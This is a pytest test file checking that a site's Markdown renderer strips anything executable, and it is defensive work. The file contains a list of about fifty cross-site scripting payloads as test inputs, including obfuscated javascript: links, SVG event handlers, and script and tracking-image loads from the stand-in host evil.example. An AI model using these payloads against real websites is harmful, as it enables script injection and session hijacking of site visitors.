"""Markdown from comms staff becomes HTML with nothing executable in it."""

import re
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup

from app.pages.rendering import render

ALLOWED_ATTRIBUTES = {"href", "title", "rel", "class", "id", "src", "alt", "start"}
DANGEROUS_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "svg", "math",
    "form", "input", "button", "textarea", "select", "base", "meta", "link", "template",
    "noscript", "video", "audio", "source", "applet", "marquee", "details",
}

HOSTILE = {
    "script tag": "<script>alert(1)</script>",
    "script tag mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script split by a nested tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in a paragraph": "Hello <script src=//evil.example/x.js></script> there",
    "event handler on an allowed tag": '<a href="/about" onclick="alert(1)">about</a>',
    "event handler on a paragraph": '<p onmouseover="alert(1)">hover</p>',
    "image with onerror": '<img src="/static/images/a.png" onerror="alert(1)">',
    "image from another site": '<img src="https://evil.example/track.gif">',
    "protocol-relative image": '<img src="//evil.example/track.gif">',
    "image climbing out of static": '<img src="/static/../../etc/passwd">',
    "markdown image from another site": "![x](https://evil.example/track.gif)",
    "markdown image with a data URL":
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown javascript link": "[click](javascript:alert(1))",
    "markdown javascript link in capitals": "[click](JAVASCRIPT:alert(1))",
    "markdown javascript link with spaces": "[click]( javascript:alert(1) )",
    "markdown javascript link with a tab": "[click](java\tscript:alert(1))",
    "markdown data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown vbscript link": "[click](vbscript:msgbox(1))",
    "reference-style javascript link": "[click][evil]\n\n[evil]: javascript:alert(1)",
    "reference-style data link":
        '[click][evil]\n\n[evil]: data:text/html,<script>alert(1)</script> "t"',
    "autolink": "<javascript:alert(1)>",
    "entity-encoded javascript":
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "hex entity javascript": '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    "named entity colon": '<a href="javascript&colon;alert(1)">x</a>',
    "entity javascript in a markdown link": "[x](&#106;avascript:alert(1))",
    "newline inside the scheme": '<a href="java\nscript:alert(1)">x</a>',
    "leading control character": '<a href="\x01javascript:alert(1)">x</a>',
    "svg with onload": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "svg with a script": "<svg><script>alert(1)</script></svg>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math link":
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction>'
        '</math>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style tag": "<style>body{background:url(javascript:alert(1))}</style>",
    "form with formaction": '<form><button formaction="javascript:alert(1)">x</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base tag": '<base href="javascript:alert(1)//">',
    "link tag": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "details ontoggle": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "comment hiding a script": "<!--<script>alert(1)</script>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "unclosed attribute": '<a href="/x" title="a onclick=alert(1)>x</a>',
    "attribute without quotes": "<a href=/x onclick=alert(1)>x</a>",
    "markdown link title breaking out": '[x](/about "title" onclick="alert(1)")',
    "markdown in html block": '<div markdown="1">[x](javascript:alert(1))</div>',
    "html inside a table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "html inside a list": "- <a href='javascript:alert(1)'>x</a>",
    "html in a heading": "## <script>alert(1)</script>",
    "heading id clobbering the layout": '<h2 id="main-content">x</h2>',
    "name attribute clobbering": '<img name="getElementById" src="/static/a.png">',
    "noscript escape": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "xss in alt": '![x" onerror="alert(1)](/static/images/a.png)',
}


def assert_nothing_executable(html: str) -> BeautifulSoup:
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in DANGEROUS_TAGS, f"<{tag.name}> survived: {html}"
        for name, value in tag.attrs.items():
            assert name in ALLOWED_ATTRIBUTES, f"{name}= survived on <{tag.name}>: {html}"
            if name == "href":
                cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
                assert urlsplit(cleaned).scheme in ("", "http", "https", "mailto", "tel"), html
            if name == "src":
                assert re.match(r"^/(static|media)/", value) and ".." not in value, html
            if name == "id":
                assert value != "main-content", html
    assert not re.search(r"<\s*(script|iframe|svg|object|embed|style)", html, re.I), html
    return soup


@pytest.mark.parametrize("markdown", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_comes_out_with_nothing_executable(markdown):
    assert_nothing_executable(render(markdown))


def test_a_whole_page_of_hostile_markdown_at_once():
    page = "\n\n".join(HOSTILE.values())
    soup = assert_nothing_executable(render(page))
    assert soup.find("h2")  # the harmless parts still render


def test_safe_markdown_keeps_its_meaning_and_gets_govuk_classes():
    html = render(
        "# Title\n\n## Warning signs\n\nSome **bold** and *emphasis*.\n\n"
        "- one\n- two\n\n3. three\n4. four\n\n> quoted\n\n"
        "| Team | Referrals |\n|---|--:|\n| SADA | 916 |\n\n---\n"
    )
    soup = BeautifulSoup(html, "html.parser")
    assert [h.name for h in soup.find_all(["h1", "h2"])] == ["h2", "h2"]  # h1 is the page's
    assert soup.find("h2", id="warning-signs")["class"] == ["govuk-heading-m"]
    assert soup.find("p")["class"] == ["govuk-body"]
    assert soup.find("strong").get_text() == "bold" and soup.find("em").get_text() == "emphasis"
    assert soup.find("ul")["class"] == ["govuk-list", "govuk-list--bullet"]
    ordered = soup.find("ol")
    assert ordered["class"] == ["govuk-list", "govuk-list--number"] and ordered["start"] == "3"
    assert soup.find("blockquote")["class"] == ["govuk-inset-text"]
    assert soup.find("table")["class"] == ["govuk-table"]
    number = soup.find("td", string="916")
    assert number["class"] == ["govuk-table__cell", "govuk-table__cell--numeric"]
    assert "align" not in number.attrs
    assert soup.find("hr")


def test_links_other_sites_get_rel_noopener_and_ours_do_not():
    html = render(
        "[a](https://www.example.org/x) [b](/get-help) [c](#signs) [d](tel:01438242666) "
        "[e](mailto:report@phishing.gov.uk) [f](https://sosafe.example.org/about) "
        "<https://www.example.net>",
        own_hosts=("sosafe.example.org",),
    )
    links = {a.get_text(): a for a in BeautifulSoup(html, "html.parser").find_all("a")}
    assert links["a"]["rel"] == ["noopener", "noreferrer"]
    assert links["https://www.example.net"]["rel"] == ["noopener", "noreferrer"]
    for ours in ("b", "c", "d", "e", "f"):
        assert "rel" not in links[ours].attrs, ours
        assert links[ours]["class"] == ["govuk-link"]
    assert links["d"]["href"] == "tel:01438242666"


def test_images_only_from_our_own_origin_keep_their_alt_text():
    html = render("![A map of the route](/static/images/route.png)\n\n"
                  "![Uploaded](/media/pages/walk.jpg)\n\n![Elsewhere](https://cdn.example/x.png)")
    images = BeautifulSoup(html, "html.parser").find_all("img")
    assert [(i["src"], i["alt"]) for i in images] == [
        ("/static/images/route.png", "A map of the route"), ("/media/pages/walk.jpg", "Uploaded"),
    ]


def test_the_text_of_removed_tags_stays_as_harmless_text():
    html = render('Before <span onclick="x()">kept words</span> after')
    assert "kept words" in BeautifulSoup(html, "html.parser").get_text()


@pytest.mark.parametrize("html", [
    '<a href="javascript:alert(1)">x</a>', '<a href=" JavaScript:alert(1)">x</a>',
    '<p onclick="x()">x</p>', "<script>x()</script>", '<img src="https://evil.example/x">',
    '<svg></svg>', '<p style="color:red">x</p>',
])
def test_the_checker_itself_catches_executable_html(html):
    with pytest.raises(AssertionError):
        assert_nothing_executable(html)
